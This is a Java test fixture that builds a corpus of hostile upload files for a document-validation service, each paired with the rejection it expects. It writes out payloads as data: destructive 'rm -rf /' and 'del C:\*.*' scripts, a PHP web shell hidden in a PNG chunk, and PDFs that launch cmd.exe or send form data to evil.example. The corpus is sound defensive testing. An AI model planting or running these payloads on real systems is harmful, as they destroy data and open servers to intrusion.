package org.civicplatform.core.documents.control;

import static org.civicplatform.core.documents.control.SampleFiles.ascii;
import static org.civicplatform.core.documents.control.SampleFiles.concat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.civicplatform.spi.form.DocumentSlot;

/**
 * At least 30 hostile or invalid files, each made here, with the slot it is sent to and the reason it
 * must be refused for.
 */
final class HostileCorpus {

  static final DocumentSlot IMAGES = DocumentSlot.of("diploma", "学历证书", "Diploma", DocumentSlot.IMAGES, 10L << 20, 2, true);
  static final DocumentSlot PDF = DocumentSlot.of("registrationRecord", "备案表", "Record", DocumentSlot.PDF, 10L << 20, 1, true);
  static final DocumentSlot ANY = DocumentSlot.of("propertyCertificate", "产权证", "Property", DocumentSlot.IMAGES_OR_PDF, 10L << 20, 4, false);
  static final DocumentSlot TINY = DocumentSlot.of("tiny", "小", "Tiny", DocumentSlot.IMAGES_OR_PDF, 1024, 1, false);

  /** One hostile file. */
  record Case(String name, byte[] content, DocumentSlot slot, Rejection expected) {
    @Override
    public String toString() {
      return name + " -> " + expected;
    }
  }

  private HostileCorpus() {}

  static List<Case> all() {
    byte[] jpeg = SampleFiles.jpeg(300, 200, 1);
    byte[] png = SampleFiles.png(300, 200, 2);
    byte[] pdf = SampleFiles.pdf(1, "Certificate 3205 8320 1800 0001");
    String eicar = SignatureScanner.EICAR;
    byte[] pe = concat(ascii("MZ"), new byte[58], new byte[] {64, 0, 0, 0},
        ascii("This program cannot be run in DOS mode.\r\r\n$"), new byte[16], ascii("PE\0\0"), new byte[200]);
    List<Case> cases = new ArrayList<>();
    // empty, oversize
    cases.add(new Case("empty file", new byte[0], ANY, Rejection.EMPTY));
    cases.add(new Case("oversize for the slot", jpeg, TINY, Rejection.TOO_LARGE));
    // executables renamed
    cases.add(new Case("windows exe renamed .jpg", pe, IMAGES, Rejection.EXECUTABLE));
    cases.add(new Case("windows exe renamed .pdf", pe, PDF, Rejection.EXECUTABLE));
    cases.add(new Case("linux elf renamed .pdf", concat(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, new byte[120]), PDF, Rejection.EXECUTABLE));
    cases.add(new Case("mach-o renamed .png", concat(new byte[] {(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1}, new byte[120]), IMAGES, Rejection.EXECUTABLE));
    cases.add(new Case("java class renamed .jpg", concat(new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 61}, new byte[120]), IMAGES, Rejection.EXECUTABLE));
    cases.add(new Case("shell script renamed .pdf", ascii("#!/bin/sh\nrm -rf / --no-preserve-root\n"), PDF, Rejection.SCRIPT));
    // archives
    cases.add(new Case("zip archive", SampleFiles.zip("a.jpg", jpeg), ANY, Rejection.ARCHIVE));
    cases.add(new Case("office document (zip)", SampleFiles.zip("[Content_Types].xml", ascii("<Types/>")), ANY, Rejection.OFFICE));
    cases.add(new Case("gzip archive", gzip(jpeg), ANY, Rejection.ARCHIVE));
    cases.add(new Case("7z archive", concat(new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4}, new byte[200]), ANY, Rejection.ARCHIVE));
    cases.add(new Case("rar archive", concat(ascii("Rar!\u001a\u0007\u0000"), new byte[200]), ANY, Rejection.ARCHIVE));
    cases.add(new Case("tar archive", tar(), ANY, Rejection.ARCHIVE));
    // svg and markup
    cases.add(new Case("svg image", ascii("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>"), IMAGES, Rejection.SVG));
    cases.add(new Case("svg with script", ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>"), ANY, Rejection.SVG));
    cases.add(new Case("html renamed .jpg", ascii("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), IMAGES, Rejection.HTML));
    // wrong type for the slot
    cases.add(new Case("pdf into an image slot", pdf, IMAGES, Rejection.TYPE_NOT_ALLOWED));
    cases.add(new Case("jpeg into a pdf slot", jpeg, PDF, Rejection.TYPE_NOT_ALLOWED));
    cases.add(new Case("png into a pdf slot", png, PDF, Rejection.TYPE_NOT_ALLOWED));
    cases.add(new Case("gif into an image slot", gif(), IMAGES, Rejection.TYPE_NOT_ALLOWED));
    cases.add(new Case("plain text renamed .pdf", ascii("certificate number 123456\n"), PDF, Rejection.TYPE_NOT_ALLOWED));
    // polyglots
    cases.add(new Case("jpeg + zip appended", concat(jpeg, SampleFiles.zip("x.js", ascii("alert(1)"))), IMAGES, Rejection.POLYGLOT));
    cases.add(new Case("pdf + zip appended", concat(pdf, SampleFiles.zip("x.exe", pe)), PDF, Rejection.POLYGLOT));
    cases.add(new Case("jpeg hiding a pdf (comment)", SampleFiles.withJpegSegment(jpeg, 0xFE, concat(ascii("%PDF-1.4\n"), new byte[16])), ANY, Rejection.POLYGLOT));
    cases.add(new Case("jpeg with html script (comment)", SampleFiles.withJpegSegment(jpeg, 0xFE, ascii("<script>alert(1)</script>")), IMAGES, Rejection.POLYGLOT));
    cases.add(new Case("png hiding a pdf (tEXt)", SampleFiles.withPngChunk(png, "tEXt", ascii("Comment\0%PDF-1.7 1 0 obj")), IMAGES, Rejection.POLYGLOT));
    cases.add(new Case("png with php (tEXt)", SampleFiles.withPngChunk(png, "tEXt", ascii("Comment\0<?php system($_GET[c]); ?>")), IMAGES, Rejection.POLYGLOT));
    cases.add(new Case("pdf with an exe inside", pdfWithStream(pe), PDF, Rejection.POLYGLOT));
    // decompression bombs
    cases.add(new Case("jpeg declaring 60000x60000 pixels", SampleFiles.jpegDeclaring(jpeg, 60000, 60000), IMAGES, Rejection.IMAGE_TOO_LARGE));
    cases.add(new Case("png declaring 100000x100000 pixels", SampleFiles.pngDeclaring(png, 100000, 100000), IMAGES, Rejection.IMAGE_TOO_LARGE));
    cases.add(new Case("png declaring 30000x1 pixels", SampleFiles.pngDeclaring(png, 30000, 1), IMAGES, Rejection.IMAGE_TOO_LARGE));
    cases.add(new Case("pdf stream inflating to 64 MB", pdfWithBomb(), PDF, Rejection.BOMB));
    // EICAR
    cases.add(new Case("eicar test file", ascii(eicar), ANY, Rejection.MALWARE));
    cases.add(new Case("eicar in a jpeg comment", SampleFiles.withJpegSegment(jpeg, 0xFE, ascii(eicar)), IMAGES, Rejection.MALWARE));
    cases.add(new Case("eicar in a pdf", pdfWithStream(ascii(eicar)), PDF, Rejection.MALWARE));
    // encrypted and scripted PDFs
    cases.add(new Case("pdf with user password", encrypted("secret"), PDF, Rejection.ENCRYPTED));
    cases.add(new Case("pdf with owner password only", encrypted(""), PDF, Rejection.ENCRYPTED));
    cases.add(new Case("pdf with javascript open action", pdfWith(d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))), PDF, Rejection.PDF_JAVASCRIPT));
    cases.add(new Case("pdf with launch action", pdfWith(d -> {
      PDActionLaunch launch = new PDActionLaunch();
      launch.setFile(new PDSimpleFileSpecification(new COSString("cmd.exe")));
      d.getDocumentCatalog().setOpenAction(launch);
    }), PDF, Rejection.PDF_LAUNCH));
    cases.add(new Case("pdf with embedded file", pdfWith(d -> {
      PDComplexFileSpecification spec = new PDComplexFileSpecification();
      spec.setFile("invoice.exe");
      spec.setEmbeddedFile(embedded(d, ascii("harmless text, still refused")));
      PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
      tree.setNames(Map.of("invoice.exe", spec));
      PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
      names.setEmbeddedFiles(tree);
      d.getDocumentCatalog().setNames(names);
    }), PDF, Rejection.PDF_EMBEDDED_FILE));
    cases.add(new Case("pdf with javascript in a link", pdfWith(d -> {
      PDAnnotationLink link = new PDAnnotationLink();
      link.setRectangle(new PDRectangle(10, 10, 100, 20));
      link.setAction(new PDActionJavaScript("this.exportDataObject({cName:'x', nLaunch:2})"));
      add(d.getPage(0), link.getCOSObject());
    }), PDF, Rejection.PDF_JAVASCRIPT));
    cases.add(new Case("pdf with page open action (AA)", pdfWith(d -> {
      COSDictionary aa = new COSDictionary();
      aa.setItem(COSName.O, js("app.launchURL('http://evil')"));
      d.getPage(0).getCOSObject().setItem(COSName.AA, aa);
    }), PDF, Rejection.PDF_JAVASCRIPT));
    cases.add(new Case("pdf with file attachment annotation", pdfWith(d -> {
      COSDictionary annot = new COSDictionary();
      annot.setItem(COSName.TYPE, COSName.ANNOT);
      annot.setName(COSName.SUBTYPE, "FileAttachment");
      annot.setItem(COSName.RECT, new PDRectangle(10, 10, 20, 20).getCOSArray());
      add(d.getPage(0), annot);
    }), ANY, Rejection.PDF_EMBEDDED_FILE));
    cases.add(new Case("pdf with xfa form", pdfWith(d -> {
      COSDictionary acro = new COSDictionary();
      acro.setItem(COSName.FIELDS, new COSArray());
      acro.setItem(COSName.getPDFName("XFA"), new COSString("<xdp:xdp/>"));
      d.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, acro);
    }), PDF, Rejection.PDF_XFA));
    cases.add(new Case("pdf with submit-form action", pdfWith(d -> {
      COSDictionary submit = new COSDictionary();
      submit.setName(COSName.S, "SubmitForm");
      submit.setString(COSName.F, "http://evil.example/collect");
      d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, submit);
    }), PDF, Rejection.ACTIVE_CONTENT));
    // damaged
    cases.add(new Case("pdf header with garbage", concat(ascii("%PDF-1.7\n"), new byte[2000], ascii("\n%%EOF\n")), PDF, Rejection.UNREADABLE));
    // cut off before the end
    cases.add(new Case("pdf cut in half", java.util.Arrays.copyOf(pdf, pdf.length / 2), PDF, Rejection.TRUNCATED));
    cases.add(new Case("jpeg cut in half", java.util.Arrays.copyOf(jpeg, jpeg.length / 2), IMAGES, Rejection.TRUNCATED));
    cases.add(new Case("png without its end", java.util.Arrays.copyOf(png, png.length - 12), IMAGES, Rejection.TRUNCATED));
    // encryption PDFBox cannot use or does not see (were accepted or called damaged)
    cases.add(new Case("pdf whose /Encrypt names a missing object", SampleFiles.pdfWithTrailer("/Encrypt 9 0 R", ""), PDF, Rejection.ENCRYPTED));
    cases.add(new Case("pdf whose /Encrypt is null", SampleFiles.pdfWithTrailer("/Encrypt null", ""), PDF, Rejection.ENCRYPTED));
    cases.add(new Case("pdf encrypted for certificates (PubSec)", SampleFiles.pdfWithTrailer("/Encrypt 5 0 R",
        "<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s4 /V 4 /R 4 /Recipients [<3000>] >>"), PDF, Rejection.ENCRYPTED));
    cases.add(new Case("pdf encrypted by an unknown handler", SampleFiles.pdfWithTrailer("/Encrypt 5 0 R",
        "<< /Filter /VendorLock /V 2 /Length 128 >>"), PDF, Rejection.ENCRYPTED));
    // more kinds
    cases.add(new Case("batch file renamed .pdf", ascii("@echo off\r\ndel /q C:\\*.*\r\n"), PDF, Rejection.SCRIPT));
    cases.add(new Case("word file with macros (docm)", SampleFiles.zip(java.util.Map.of("word/document.xml", ascii("<w:document/>"),
        "word/vbaProject.bin", new byte[64])), ANY, Rejection.OFFICE));
    cases.add(new Case("ole2 word file", concat(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, new byte[1024]), ANY, Rejection.OFFICE));
    cases.add(new Case("zip bomb", SampleFiles.zip("zeros.bin", new byte[64 << 20]), ANY, Rejection.BOMB));
    cases.add(new Case("gzip bomb", gzip(new byte[64 << 20]), ANY, Rejection.BOMB));
    cases.add(new Case("gif that is also javascript", concat(ascii("GIF89a/*"), new byte[] {10, 0, 0, 0, 0}, ascii("*/=alert(1);")), IMAGES, Rejection.POLYGLOT));
    cases.add(new Case("html with a pdf behind it", concat(ascii("<html><body>x</body></html>\n"), pdf), PDF, Rejection.POLYGLOT));
    cases.add(new Case("eicar zipped", SampleFiles.zip("eicar.com", ascii(eicar)), ANY, Rejection.MALWARE));
    cases.add(new Case("eicar in a zip in a zip", SampleFiles.zip("inner.zip", SampleFiles.zip("eicar.com", ascii(eicar))), ANY, Rejection.MALWARE));
    cases.add(new Case("jpeg header with garbage", concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0}, new byte[3000]), IMAGES, Rejection.UNREADABLE));
    return cases;
  }

  interface PdfChange {
    void apply(PDDocument document) throws IOException;
  }

  static byte[] pdfWith(PdfChange change) {
    try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(SampleFiles.pdf(1, "Certificate"))) {
      change.apply(document);
      return SampleFiles.save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static COSDictionary js(String script) {
    COSDictionary action = new COSDictionary();
    action.setName(COSName.S, "JavaScript");
    action.setString(COSName.JS, script);
    return action;
  }

  static void add(PDPage page, COSDictionary annotation) {
    COSArray annots = page.getCOSObject().getCOSArray(COSName.ANNOTS);
    if (annots == null) {
      annots = new COSArray();
      page.getCOSObject().setItem(COSName.ANNOTS, annots);
    }
    annots.add(annotation);
  }

  static PDEmbeddedFile embedded(PDDocument document, byte[] content) throws IOException {
    PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(content));
    file.setSize(content.length);
    return file;
  }

  /** A PDF carrying {@code raw} bytes unfiltered in a stream (as a hidden payload would be). */
  static byte[] pdfWithStream(byte[] raw) {
    return pdfWith(d -> {
      COSStream stream = d.getDocument().createCOSStream();
      try (OutputStream out = stream.createRawOutputStream()) {
        out.write(raw);
      }
      d.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Payload"), stream);
    });
  }

  static byte[] pdfWithBomb() {
    return pdfWith(d -> {
      COSStream stream = d.getDocument().createCOSStream();
      try (OutputStream out = stream.createRawOutputStream()) {
        out.write(SampleFiles.deflatedZeros(64 << 20));
      }
      stream.setItem(COSName.FILTER, COSName.FLATE_DECODE);
      d.getPage(0).getCOSObject().setItem(COSName.CONTENTS, stream);
    });
  }

  static byte[] encrypted(String userPassword) {
    try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(SampleFiles.pdf(1, "Certificate"))) {
      StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword, new AccessPermission());
      policy.setEncryptionKeyLength(128);
      document.protect(policy);
      return SampleFiles.save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static byte[] gzip(byte[] content) {
    var out = new java.io.ByteArrayOutputStream();
    try (var gz = new java.util.zip.GZIPOutputStream(out)) {
      gz.write(content);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  static byte[] tar() {
    byte[] header = new byte[1024];
    byte[] name = ascii("payload.exe");
    System.arraycopy(name, 0, header, 0, name.length);
    System.arraycopy(ascii("0000644\0"), 0, header, 100, 8);
    System.arraycopy(ascii("00000000010\0"), 0, header, 124, 12);
    System.arraycopy(ascii("ustar\u000000"), 0, header, 257, 8);
    return header;
  }

  static byte[] gif() {
    var out = new java.io.ByteArrayOutputStream();
    try {
      javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(10, 10, java.awt.image.BufferedImage.TYPE_INT_RGB), "gif", out);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }
}
